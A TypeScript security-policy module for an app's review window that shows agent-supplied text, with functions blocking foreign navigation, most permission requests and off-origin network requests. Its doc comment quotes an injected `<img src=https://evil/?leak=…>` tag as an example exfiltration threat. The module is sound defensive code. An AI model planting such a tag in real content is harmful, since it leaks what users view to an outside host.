// Pure decisions about what the renderer's web contents may do. The renderer shows agent-supplied text,
// so a bug that lets markup through must still find every door closed: no navigation, no popups,
// no permissions, no network.
import { isRendererDocument, parseAppUrl, parseUrl } from './app-url.js';

/**
 * Navigation is allowed only to our own renderer document.
 * Threat: a link or script in rendered content takes the window (and the preload's verbs) to a foreign page.
 */
export function isAllowedNavigation(url: string): boolean {
  return isRendererDocument(url);
}

// Copying from the review (Monaco's copy, "copy command") is the one capability the renderer needs.
const ALLOWED_PERMISSIONS = new Set(['clipboard-sanitized-write']);

/**
 * Permission requests (camera, notifications, geolocation, clipboard-read, …) are refused, except sanitized clipboard writes.
 * Threat: content in the review window asks for capabilities an approval UI never needs.
 */
export function isAllowedPermission(permission: string): boolean {
  return ALLOWED_PERMISSIONS.has(permission);
}

/**
 * Requests from the renderer may only reach our own app:// origin (plus data:/blob: for fonts and workers, and devtools).
 * Threat: an injected `<img src=https://evil/?leak=…>` or fetch exfiltrates what the review window shows.
 */
export function isAllowedRendererRequest(url: string): boolean {
  if (parseAppUrl(url)) return true;
  const protocol = parseUrl(url)?.protocol;
  return protocol === 'data:' || protocol === 'blob:' || protocol === 'devtools:';
}
